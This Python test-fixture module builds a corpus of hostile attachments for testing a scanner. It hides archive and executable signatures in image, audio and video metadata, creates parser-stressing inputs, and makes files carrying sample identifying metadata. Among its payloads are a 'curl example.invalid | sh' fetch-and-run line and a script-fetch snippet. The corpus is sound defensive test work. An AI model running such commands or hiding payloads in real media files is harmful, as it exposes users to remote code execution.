"""A deterministic corpus of hostile attachments (issue 17): signatures of archives and
executables in every kind of opaque region, adversarial shapes for the parsers, and
metadata that could identify a reporter. Everything is built from fixed bytes or a
seeded ``random.Random``; nothing is read from disk."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import random
import struct
from collections.abc import Callable

from samples import media


def _rng(seed: int = 17) -> random.Random:
    return random.Random(seed)


def pe_bytes() -> bytes:
    """A DOS stub whose e_lfanew (0x3C) points at 0x80, where the PE header starts."""
    mz = bytearray(b"MZ" + bytes(0x3A) + struct.pack("<I", 0x80) + b"This program cannot be run in DOS mode.\r\n")
    mz += bytes(0x80 - len(mz))
    return bytes(mz) + b"PE\x00\x00" + struct.pack("<HH", 0x8664, 1) + bytes(16)


# One payload per kind (the kind the signature scanner reports).
PAYLOADS: dict[str, Callable[[], bytes]] = {
    "zip": lambda: media.zip_bytes(_rng()),
    "rar": lambda: b"Rar!\x1a\x07\x01\x00" + bytes(24),
    "7z": lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24),
    "gzip": lambda: gzip.compress(b"echo payload\n", mtime=0),
    "bzip2": lambda: bz2.compress(b"hello " * 20),
    "xz": lambda: lzma.compress(b"payload"),
    "ole": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(56),
    "pdf": media.pdf_bytes,
    "html": lambda: b"<script>fetch('https://example.invalid')</script>",
    "elf": media.elf_renamed,
    "pe": pe_bytes,
    "mach-o": lambda: b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(24),
    "shebang": lambda: b"#!/bin/sh\ncurl example.invalid | sh\n",
}
CODES = {
    "zip": "attachment.embedded_archive", "rar": "attachment.embedded_archive", "7z": "attachment.embedded_archive",
    "gzip": "attachment.embedded_archive", "bzip2": "attachment.embedded_archive", "xz": "attachment.embedded_archive",
    "ole": "attachment.embedded_document", "pdf": "attachment.embedded_document", "html": "attachment.embedded_document",
    "elf": "attachment.embedded_executable", "pe": "attachment.embedded_executable",
    "mach-o": "attachment.embedded_executable", "shebang": "attachment.embedded_executable",
}


def _segment(marker: int, payload: bytes) -> bytes:
    return bytes((0xFF, marker)) + struct.pack(">H", len(payload) + 2) + payload


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload) + 8) + kind + payload


def _syncsafe(n: int) -> bytes:
    return bytes(((n >> 21) & 0x7F, (n >> 14) & 0x7F, (n >> 7) & 0x7F, n & 0x7F))


def _id3_frame(frame_id: bytes, body: bytes) -> bytes:
    return frame_id + struct.pack(">I", len(body)) + b"\x00\x00" + body


def id3_tag(frames: bytes, padding: bytes = b"") -> bytes:
    """An ID3v2.3 tag around ``frames`` (then ``padding``)."""
    body = frames + padding
    return b"ID3\x03\x00\x00" + _syncsafe(len(body)) + body


def mp3_audio(frames: int = 8) -> bytes:
    data = media.make_mp3(_rng(), frames=frames)
    return data[data.index(b"\xff\xfb"):]


def with_moov_child(mp4: bytes, child: bytes) -> bytes:
    """``mp4`` with ``child`` appended inside its moov (sizes fixed; mdat after moov)."""
    at = mp4.index(b"moov") - 4
    size = struct.unpack_from(">I", mp4, at)[0]
    moov = mp4[at:at + size]
    grown = struct.pack(">I", size + len(child)) + moov[4:] + child
    return mp4[:at] + grown + mp4[at + size:]


# Opaque regions: each takes a payload and returns (kind, file bytes, payload offset).
Region = Callable[[bytes], tuple[str, bytes, int]]


def jpeg_com(payload: bytes) -> tuple[str, bytes, int]:
    j = media.make_jpeg(_rng())
    return "jpg", j[:2] + _segment(0xFE, payload) + j[2:], 6


def jpeg_app1(payload: bytes) -> tuple[str, bytes, int]:
    j = media.make_jpeg(_rng())
    return "jpg", j[:2] + _segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + payload) + j[2:], 6 + 29


def jpeg_app15(payload: bytes) -> tuple[str, bytes, int]:
    j = media.make_jpeg(_rng())
    at = j.index(b"\xff\xdb")  # before the first DQT
    return "jpg", j[:at] + _segment(0xEF, payload) + j[at:], at + 4


def id3_geob(payload: bytes) -> tuple[str, bytes, int]:
    title = _id3_frame(b"TIT2", b"\x00sample")
    head = b"\x00application/octet-stream\x00a.bin\x00\x00"
    frames = title + _id3_frame(b"GEOB", head + payload)
    return "mp3", id3_tag(frames) + mp3_audio(), 10 + len(title) + 10 + len(head)


def id3_apic(payload: bytes) -> tuple[str, bytes, int]:
    head = b"\x00image/jpeg\x00\x03\x00"
    frames = _id3_frame(b"APIC", head + payload)
    return "mp3", id3_tag(frames) + mp3_audio(), 10 + 10 + len(head)


def id3_padding(payload: bytes) -> tuple[str, bytes, int]:
    title = _id3_frame(b"TIT2", b"\x00sample")
    return "mp3", id3_tag(title, bytes(16) + payload) + mp3_audio(), 10 + len(title) + 16


def mp4_box(kind: bytes) -> Region:
    def region(payload: bytes) -> tuple[str, bytes, int]:
        m = media.make_mp4(_rng())
        return "mp4", m + _box(kind, payload), len(m) + 8
    region.__name__ = f"mp4_{kind.decode()}"
    return region


def mp4_udta(payload: bytes) -> tuple[str, bytes, int]:
    m = media.make_mp4(_rng())
    child = _box(b"udta", _box(b"XTRA", payload))
    out = with_moov_child(m, child)
    return "mp4", out, out.index(b"XTRA") + 4


REGIONS: list[Region] = [jpeg_com, jpeg_app1, jpeg_app15, id3_geob, id3_apic, id3_padding,
                         mp4_box(b"free"), mp4_box(b"skip"), mp4_box(b"uuid"), mp4_box(b"junk"), mp4_udta]


# Adversarial shapes (issue 17 "slow inputs"), each of about ``size`` bytes.

def jpeg_ff_fill(size: int) -> bytes:
    j = media.make_jpeg(_rng())
    return j[:2] + b"\xff" * size + j[2:]


def jpeg_scan_stuffing(size: int) -> bytes:
    j = media.make_jpeg(_rng())
    return j[:-2] + b"\xff\x00" * (size // 2) + j[-2:]


def jpeg_many_segments(size: int) -> bytes:
    j = media.make_jpeg(_rng())
    return j[:2] + b"\xff\xfe\x00\x02" * (size // 4) + j[2:]


def mp4_tiny_boxes(size: int) -> bytes:
    m = media.make_mp4(_rng())
    at = m.index(b"moov") - 4
    return m[:at] + _box(b"free", b"") * (size // 8) + m[at:]


def mp3_many_id3_frames(size: int) -> bytes:
    return id3_tag(_id3_frame(b"TXXX", b"\x00") * (size // 11)) + mp3_audio()


def mp3_small_frames(size: int) -> bytes:
    # MPEG-2 Layer III, 8 kbit/s at 24 kHz: 24-byte frames, the shortest there are.
    header = bytes((0xFF, 0xF3, 0x14, 0xC4))
    return (header + bytes(20)) * (size // 24)


SHAPES: dict[str, tuple[str, Callable[[int], bytes]]] = {
    "jpeg_ff_fill": ("jpg", jpeg_ff_fill),
    "jpeg_scan_stuffing": ("jpg", jpeg_scan_stuffing),
    "jpeg_many_segments": ("jpg", jpeg_many_segments),
    "mp4_tiny_boxes": ("mp4", mp4_tiny_boxes),
    "mp3_many_id3_frames": ("mp3", mp3_many_id3_frames),
    "mp3_small_frames": ("mp3", mp3_small_frames),
}


# Metadata that could identify a reporter.

def jpeg_with_exif() -> bytes:
    """A Pillow JPEG with GPS, make, model, body serial and artist in its EXIF."""
    from PIL import Image

    img = Image.new("RGB", (16, 16), (200, 30, 30))
    exif = Image.Exif()
    exif[0x010F] = "ExamplePhone Inc."  # Make
    exif[0x0110] = "EP-9 Pro"  # Model
    exif[0x013B] = "Zhang San"  # Artist
    ifd = exif.get_ifd(0x8769)
    ifd[0xA431] = "SN-0042-7731"  # BodySerialNumber
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (39.0, 54.0, 15.0)
    gps[3], gps[4] = "E", (116.0, 23.0, 30.0)
    out = io.BytesIO()
    img.save(out, format="JPEG", exif=exif, quality=80)
    return out.getvalue()


def mp3_with_personal_frames() -> bytes:
    frames = (_id3_frame(b"TIT2", b"\x00interview") + _id3_frame(b"TXXX", b"\x00phone\x0013800138000")
              + _id3_frame(b"COMM", b"\x00zho\x00recorded by Li Si") + _id3_frame(b"PRIV", b"owner@example.invalid\x00\x01\x02"))
    return id3_tag(frames) + mp3_audio()


def mp4_with_location() -> bytes:
    m = media.make_mp4(_rng())
    xyz = _box(b"\xa9xyz", struct.pack(">HH", 18, 0x15C7) + b"+39.9042+116.4074/")
    mak = _box(b"\xa9mak", struct.pack(">HH", 5, 0x15C7) + b"Apple")
    keys = (b"\x00\x00\x00\x00" + struct.pack(">I", 2)
            + _box(b"mdta", b"com.apple.quicktime.location.ISO6709") + _box(b"mdta", b"com.apple.quicktime.model"))
    ilst = _box(b"ilst", _box(struct.pack(">I", 1), _box(b"data", struct.pack(">II", 1, 0) + b"+39.9042+116.4074+044.000/"))
                + _box(struct.pack(">I", 2), _box(b"data", struct.pack(">II", 1, 0) + b"iPhone 15")))
    meta = _box(b"meta", _box(b"hdlr", bytes(8) + b"mdta" + bytes(13)) + _box(b"keys", keys) + ilst)
    return with_moov_child(m, _box(b"udta", xyz + mak) + meta)
